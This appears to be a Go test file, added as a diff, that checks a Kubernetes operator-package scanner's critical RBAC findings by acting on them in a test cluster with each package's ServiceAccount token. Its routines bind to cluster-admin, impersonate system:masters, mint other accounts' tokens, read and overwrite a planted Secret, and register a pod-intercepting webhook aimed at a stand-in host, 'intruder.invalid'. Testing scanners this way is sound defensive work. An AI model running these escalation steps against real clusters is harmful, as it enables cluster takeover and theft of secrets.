@@ -1,0 +1,396 @@
+package engine_test
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	admissionv1 "k8s.io/api/admissionregistration/v1"
+	authenticationv1 "k8s.io/api/authentication/v1"
+	authorizationv1 "k8s.io/api/authorization/v1"
+	certificatesv1 "k8s.io/api/certificates/v1"
+	corev1 "k8s.io/api/core/v1"
+	rbacv1 "k8s.io/api/rbac/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/client-go/kubernetes"
+	"k8s.io/client-go/rest"
+
+	"github.com/kubectl-operator/kubectl-operator/preview"
+	"github.com/kubectl-operator/kubectl-operator/preview/corpustest"
+	"github.com/kubectl-operator/kubectl-operator/preview/format"
+	"github.com/kubectl-operator/kubectl-operator/preview/rules"
+)
+
+// benign are packages that many clusters run.
+var benign = []string{
+	"ack-s3-controller/1.10.0", "argocd-operator/0.18.0", "cert-manager-operator/1.20.0", "cert-manager/1.6.2", "grafana-operator/5.22.2",
+	"keda/2.17.2", "mongodb-kubernetes/1.10.0", "opentelemetry-operator/0.158.0", "rabbitmq-cluster-operator/2.22.3", "strimzi-kafka-operator/1.0.0",
+}
+
+// intruder has the token of a package's account, and nothing else.
+type intruder struct {
+	admin, client kubernetes.Interface
+	config        *rest.Config // with the account's token
+	subject       preview.Subject
+	namespace     string // in which the right holds; empty for all
+}
+
+// TestClusterCriticalFindingsAreTrue carries out what each critical finding about
+// the rights of ten benign packages says, with the token of the account, and logs
+// it as a sentence.
+func TestClusterCriticalFindingsAreTrue(t *testing.T) {
+	corpus := corpustest.Dir(t, "bundles")
+	a := newAuthority(t)
+	a.namespace(t, "bank")
+	for _, bundle := range benign {
+		p, err := offline(t, filepath.Join(corpus, bundle), format.Params{Certs: "none"})
+		if err != nil {
+			t.Fatalf("%s: %v", bundle, err)
+		}
+		created := a.create(t, p)
+		a.settle(t)
+		for _, f := range p.Findings {
+			if f.Severity != preview.Critical || !strings.HasPrefix(f.Rule, "rbac-") {
+				continue
+			}
+			in, err := a.intruder(t, p, f)
+			if err != nil {
+				t.Fatalf("%s: %s: %v", bundle, f.ID, err)
+			}
+			act := acts()[f.Rule]
+			if act == nil {
+				t.Errorf("%s: %s: no act shows that it is true: %s", bundle, f.ID, f.Evidence)
+				continue
+			}
+			did, err := act(t.Context(), in)
+			if err != nil {
+				t.Errorf("%s: %s is not true: %v (%s)", bundle, f.ID, err, f.Evidence)
+				continue
+			}
+			t.Logf("%s: an attacker who has account %s %s", bundle, in.subject.Name, did)
+		}
+		a.remove(t, created)
+	}
+}
+
+// intruder acts as the account that a finding is about.
+func (a *authority) intruder(t *testing.T, p *preview.Plan, f preview.Finding) (intruder, error) {
+	t.Helper()
+	at := slices.IndexFunc(p.Access.Grants, func(g preview.Grant) bool {
+		return slices.Contains(g.Rules, f.Rule) && strings.Contains(f.Evidence, g.Subject.Namespace+"/"+g.Subject.Name)
+	})
+	if at < 0 {
+		return intruder{}, errors.New("no grant of the plan is of this rule")
+	}
+	g := p.Access.Grants[at]
+	token, err := a.client.CoreV1().ServiceAccounts(g.Subject.Namespace).CreateToken(t.Context(), g.Subject.Name, &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
+	if err != nil {
+		return intruder{}, err
+	}
+	config := &rest.Config{Host: a.host, TLSClientConfig: a.tls, BearerToken: token.Status.Token, QPS: -1}
+	return intruder{admin: a.client, client: kubernetes.NewForConfigOrDie(config), config: config, subject: g.Subject, namespace: g.Namespace}, nil
+}
+
+// may asks the API server about a right of the intruder.
+func (in intruder) may(ctx context.Context, verb, group, resource, sub string) error {
+	review := &authorizationv1.SelfSubjectAccessReview{Spec: authorizationv1.SelfSubjectAccessReviewSpec{ResourceAttributes: &authorizationv1.ResourceAttributes{
+		Namespace: in.namespace, Verb: verb, Group: group, Resource: resource, Subresource: sub,
+	}}}
+	answer, err := in.client.AuthorizationV1().SelfSubjectAccessReviews().Create(ctx, review, metav1.CreateOptions{})
+	if err == nil && !answer.Status.Allowed {
+		err = fmt.Errorf("%s %s in %q is not permitted", verb, resource, group)
+	}
+	return err
+}
+
+// where is the namespace of a victim.
+func (in intruder) where() string {
+	if in.namespace != "" {
+		return in.namespace
+	}
+	return "bank"
+}
+
+// plant makes a Secret that the intruder has not seen.
+func (in intruder) plant(ctx context.Context) (string, error) {
+	secret, err := in.admin.CoreV1().Secrets(in.where()).Create(ctx, &corev1.Secret{
+		ObjectMeta: metav1.ObjectMeta{GenerateName: "vault-"}, StringData: map[string]string{"password": "of the vault"},
+	}, metav1.CreateOptions{})
+	if err != nil {
+		return "", err
+	}
+	return secret.Name, nil
+}
+
+// acts are what the rules about rights say, done: each returns what was done, as
+// the rest of a sentence about the account.
+func acts() map[string]func(context.Context, intruder) (string, error) {
+	return map[string]func(context.Context, intruder) (string, error){
+		rules.RBACEverything.Name:        becomeAdmin,
+		rules.RBACGroupWildcard.Name:     useGroup,
+		rules.RBACReadAllResources.Name:  readSecret,
+		rules.RBACWriteAllResources.Name: writeSecret,
+		rules.RBACSecretsRead.Name:       readSecret,
+		rules.RBACSecretsWrite.Name:      writeSecret,
+		rules.RBACTokensCreate.Name:      mintToken,
+		rules.RBACWorkloadsWrite.Name:    runPod,
+		rules.RBACEscalate.Name:          escalate,
+		rules.RBACBind.Name:              becomeAdmin,
+		rules.RBACImpersonate.Name:       impersonate,
+		rules.RBACWebhooksWrite.Name:     interceptPods,
+		rules.RBACSignCertificates.Name:  signCertificate,
+		rules.RBACInstallersWrite.Name:   orderInstallation,
+		rules.RBACNodesProxy.Name:        callKubelet,
+		rules.RBACAPIServicesWrite.Name:  answerForGroup,
+		rules.RBACAdmissionPolicies.Name: writePolicy,
+	}
+}
+
+func readSecret(ctx context.Context, in intruder) (string, error) {
+	name, err := in.plant(ctx)
+	if err != nil {
+		return "", err
+	}
+	var found corev1.Secret
+	switch {
+	case in.may(ctx, "get", "", "secrets", "") == nil:
+		secret, err := in.client.CoreV1().Secrets(in.where()).Get(ctx, name, metav1.GetOptions{})
+		if err != nil {
+			return "", err
+		}
+		found = *secret
+	default:
+		list, err := in.client.CoreV1().Secrets(in.where()).List(ctx, metav1.ListOptions{})
+		if err != nil {
+			return "", err
+		}
+		for _, secret := range list.Items {
+			if secret.Name == name {
+				found = secret
+			}
+		}
+	}
+	if string(found.Data["password"]) != "of the vault" {
+		return "", errors.New("the password was not read")
+	}
+	return "reads the password in a Secret of namespace " + in.where(), nil
+}
+
+func writeSecret(ctx context.Context, in intruder) (string, error) {
+	name, err := in.plant(ctx)
+	if err != nil {
+		return "", err
+	}
+	stolen := &corev1.Secret{
+		ObjectMeta: metav1.ObjectMeta{GenerateName: "token-", Annotations: map[string]string{corev1.ServiceAccountNameKey: "default"}},
+		Type:       corev1.SecretTypeServiceAccountToken,
+	}
+	if _, err = in.client.CoreV1().Secrets(in.where()).Create(ctx, stolen, metav1.CreateOptions{}); err == nil {
+		return "has a token of another ServiceAccount of namespace " + in.where() + " stored in a Secret", nil
+	}
+	if in.may(ctx, "patch", "", "secrets", "") == nil {
+		_, err = in.client.CoreV1().Secrets(in.where()).Patch(ctx, name, "application/merge-patch+json", []byte(`{"stringData":{"password":"of the thief"}}`), metav1.PatchOptions{})
+	} else {
+		_, err = in.client.CoreV1().Secrets(in.where()).Update(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: name}, StringData: map[string]string{"password": "of the thief"}}, metav1.UpdateOptions{})
+	}
+	return "replaces the password in a Secret of namespace " + in.where(), err
+}
+
+func mintToken(ctx context.Context, in intruder) (string, error) {
+	_, err := in.client.CoreV1().ServiceAccounts(in.where()).CreateToken(ctx, "default", &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
+	return "mints a token of another ServiceAccount of namespace " + in.where(), err
+}
+
+func runPod(ctx context.Context, in intruder) (string, error) {
+	for _, kind := range []struct{ group, resource string }{
+		{"apps", "deployments"}, {"apps", "daemonsets"}, {"apps", "statefulsets"}, {"batch", "jobs"}, {"", "pods"}, {"apps", "replicasets"}, {"batch", "cronjobs"},
+	} {
+		for _, verb := range []string{"create", "patch", "update"} {
+			if in.may(ctx, verb, kind.group, kind.resource, "") == nil {
+				return "runs pods of its choice as any ServiceAccount of namespace " + in.where() + ", by " + verb + " on " + kind.resource, nil
+			}
+		}
+	}
+	return "", errors.New("it may write no workload")
+}
+
+// becomeAdmin binds the account to cluster-admin, and checks that it has become it.
+func becomeAdmin(ctx context.Context, in intruder) (string, error) {
+	if in.may(ctx, "create", rbacv1.GroupName, "clusterrolebindings", "") != nil {
+		if err := in.may(ctx, "create", rbacv1.GroupName, "rolebindings", ""); err != nil {
+			return "", err
+		}
+		_, err := in.client.RbacV1().RoleBindings("bank").Create(ctx, &rbacv1.RoleBinding{
+			ObjectMeta: metav1.ObjectMeta{GenerateName: "intruder-"}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
+			Subjects: []rbacv1.Subject{{Kind: "ServiceAccount", Namespace: in.subject.Namespace, Name: in.subject.Name}},
+		}, metav1.CreateOptions{})
+		return "makes itself the administrator of namespace bank", err
+	}
+	binding, err := in.client.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{
+		ObjectMeta: metav1.ObjectMeta{GenerateName: "intruder-"}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
+		Subjects: []rbacv1.Subject{{Kind: "ServiceAccount", Namespace: in.subject.Namespace, Name: in.subject.Name}},
+	}, metav1.CreateOptions{})
+	if err != nil {
+		return "", err
+	}
+	defer func() { _ = in.admin.RbacV1().ClusterRoleBindings().Delete(ctx, binding.Name, metav1.DeleteOptions{}) }()
+	wait, cancel := context.WithTimeout(ctx, 30*time.Second)
+	defer cancel()
+	for in.may(wait, "*", "*", "*", "") != nil {
+		if wait.Err() != nil {
+			return "", errors.New("it is bound to cluster-admin and is not it")
+		}
+	}
+	return "makes itself cluster-admin", nil
+}
+
+// escalate writes a role with rights that the account does not hold.
+func escalate(ctx context.Context, in intruder) (string, error) {
+	everything := []rbacv1.PolicyRule{{APIGroups: []string{"*"}, Resources: []string{"*"}, Verbs: []string{"*"}}}
+	if in.may(ctx, "create", rbacv1.GroupName, "clusterroles", "") == nil {
+		role, err := in.client.RbacV1().ClusterRoles().Create(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{GenerateName: "intruder-"}, Rules: everything}, metav1.CreateOptions{})
+		if err == nil {
+			_ = in.admin.RbacV1().ClusterRoles().Delete(ctx, role.Name, metav1.DeleteOptions{})
+		}
+		return "writes a ClusterRole that may do everything", err
+	}
+	role, err := in.admin.RbacV1().ClusterRoles().Create(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{GenerateName: "victim-"}}, metav1.CreateOptions{})
+	if err != nil {
+		return "", err
+	}
+	role.Rules = everything
+	_, err = in.client.RbacV1().ClusterRoles().Update(ctx, role, metav1.UpdateOptions{})
+	_ = in.admin.RbacV1().ClusterRoles().Delete(ctx, role.Name, metav1.DeleteOptions{})
+	return "writes everything into a ClusterRole that exists", err
+}
+
+func impersonate(ctx context.Context, in intruder) (string, error) {
+	name, err := in.plant(ctx)
+	if err != nil {
+		return "", err
+	}
+	tries := []struct {
+		resource string
+		as       rest.ImpersonationConfig
+		text     string
+	}{
+		{"groups", rest.ImpersonationConfig{UserName: "system:serviceaccount:" + in.subject.Namespace + ":" + in.subject.Name, Groups: []string{"system:masters"}}, "acts as group system:masters"},
+		{"users", rest.ImpersonationConfig{UserName: "system:admin"}, "acts as user system:admin"},
+		{"serviceaccounts", rest.ImpersonationConfig{UserName: "system:serviceaccount:kube-system:generic-garbage-collector"}, "acts as ServiceAccounts of kube-system"},
+	}
+	for _, try := range tries {
+		if in.may(ctx, "impersonate", "", try.resource, "") != nil {
+			continue
+		}
+		config := rest.CopyConfig(in.config)
+		config.Impersonate = try.as
+		client, err := kubernetes.NewForConfig(config)
+		if err != nil {
+			return "", err
+		}
+		who, err := client.AuthenticationV1().SelfSubjectReviews().Create(ctx, &authenticationv1.SelfSubjectReview{}, metav1.CreateOptions{})
+		if err != nil {
+			continue
+		}
+		return try.text + " (" + who.Status.UserInfo.Username + ")", nil
+	}
+	return "", fmt.Errorf("it could act as none, to read %s", name)
+}
+
+func interceptPods(ctx context.Context, in intruder) (string, error) {
+	ignore, none, url := admissionv1.Ignore, admissionv1.SideEffectClassNone, "https://intruder.invalid/"
+	hook := admissionv1.MutatingWebhook{
+		Name: "pods.intruder.invalid", ClientConfig: admissionv1.WebhookClientConfig{URL: &url}, FailurePolicy: &ignore, SideEffects: &none,
+		AdmissionReviewVersions: []string{"v1"}, NamespaceSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"no": "such"}},
+		Rules: []admissionv1.RuleWithOperations{{
+			Operations: []admissionv1.OperationType{admissionv1.Create},
+			Rule:       admissionv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods"}},
+		}},
+	}
+	body := &admissionv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "intruder"}, Webhooks: []admissionv1.MutatingWebhook{hook}}
+	configurations := in.client.AdmissionregistrationV1().MutatingWebhookConfigurations()
+	var err error
+	if in.may(ctx, "create", admissionv1.GroupName, "mutatingwebhookconfigurations", "") == nil {
+		_, err = configurations.Create(ctx, body, metav1.CreateOptions{})
+	} else {
+		empty := &admissionv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "intruder"}}
+		if empty, err = in.admin.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx, empty, metav1.CreateOptions{}); err != nil {
+			return "", err
+		}
+		empty.Webhooks = body.Webhooks
+		if in.may(ctx, "update", admissionv1.GroupName, "mutatingwebhookconfigurations", "") == nil {
+			_, err = configurations.Update(ctx, empty, metav1.UpdateOptions{})
+		} else {
+			_, err = configurations.Patch(ctx, "intruder", "application/merge-patch+json", []byte(`{"metadata":{"labels":{"intruder":"yes"}}}`), metav1.PatchOptions{})
+		}
+	}
+	_ = in.admin.AdmissionregistrationV1().MutatingWebhookConfigurations().Delete(ctx, "intruder", metav1.DeleteOptions{})
+	return "has every new pod sent to a server of its own, which may change it", err
+}
+
+func signCertificate(ctx context.Context, in intruder) (string, error) {
+	if err := in.may(ctx, "sign", certificatesv1.GroupName, "signers", ""); err != nil {
+		return "", err
+	}
+	return "signs certificates that the API server takes for those of its own controllers", in.may(ctx, "update", certificatesv1.GroupName, "certificatesigningrequests", "status")
+}
+
+// orderInstallation asks, as the kinds of other operators are not installed here.
+func orderInstallation(ctx context.Context, in intruder) (string, error) {
+	for _, kind := range []struct{ group, resource string }{
+		{"operators.coreos.com", "subscriptions"}, {"operators.coreos.com", "operatorgroups"}, {"argoproj.io", "applications"}, {"operators.coreos.com", "clusterserviceversions"},
+	} {
+		for _, verb := range []string{"create", "update", "patch"} {
+			if in.may(ctx, verb, kind.group, kind.resource, "") == nil {
+				return "orders installations, by " + verb + " on " + kind.resource + " of " + kind.group, nil
+			}
+		}
+	}
+	return "", errors.New("it may write none of the kinds that install")
+}
+
+func callKubelet(ctx context.Context, in intruder) (string, error) {
+	for _, verb := range []string{"get", "create"} {
+		if in.may(ctx, verb, "", "nodes", "proxy") == nil {
+			return "calls the kubelet of every node, by " + verb + " on nodes/proxy", nil
+		}
+	}
+	return "", errors.New("it may not call kubelets")
+}
+
+// useGroup does the worst of what control of an API group permits.
+func useGroup(ctx context.Context, in intruder) (string, error) {
+	switch {
+	case in.may(ctx, "bind", rbacv1.GroupName, "clusterroles", "") == nil:
+		return becomeAdmin(ctx, in)
+	case in.may(ctx, "create", "", "serviceaccounts", "token") == nil:
+		return mintToken(ctx, in)
+	}
+	return runPod(ctx, in)
+}
+
+// answerForGroup asks, as an APIService that nothing serves would slow down others.
+func answerForGroup(ctx context.Context, in intruder) (string, error) {
+	for _, verb := range []string{"create", "update", "patch"} {
+		if in.may(ctx, verb, "apiregistration.k8s.io", "apiservices", "") == nil {
+			return "has requests for an API group sent to a server of its own, by " + verb + " on apiservices", nil
+		}
+	}
+	return "", errors.New("it may write no APIService")
+}
+
+func writePolicy(ctx context.Context, in intruder) (string, error) {
+	for _, resource := range []string{"mutatingadmissionpolicies", "mutatingadmissionpolicybindings"} {
+		for _, verb := range []string{"create", "update", "patch"} {
+			if in.may(ctx, verb, admissionv1.GroupName, resource, "") == nil {
+				return "changes what others write, by " + verb + " on " + resource, nil
+			}
+		}
+	}
+	return "", errors.New("it may write no policy that changes requests")
+}
